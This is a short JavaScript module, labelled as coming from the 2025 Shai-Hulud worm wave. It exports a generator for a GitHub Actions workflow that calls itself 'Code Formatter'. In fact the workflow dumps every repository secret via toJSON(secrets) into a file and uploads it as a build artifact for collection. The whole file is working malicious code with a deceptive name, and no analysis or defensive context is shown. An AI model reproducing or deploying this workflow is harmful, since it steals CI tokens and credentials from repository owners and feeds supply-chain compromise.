// source: the "second coming" Shai-Hulud wave (2025): a workflow that writes toJSON(secrets) into an artifact
exports.workflow = (n) => `name: Code Formatter
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    env:
      DATA: \${{ toJSON(secrets) }}
    steps:
      - run: echo "$DATA" > results.txt
      - uses: actions/upload-artifact@v4
        with:
          name: results-${n}
          path: results.txt
`;
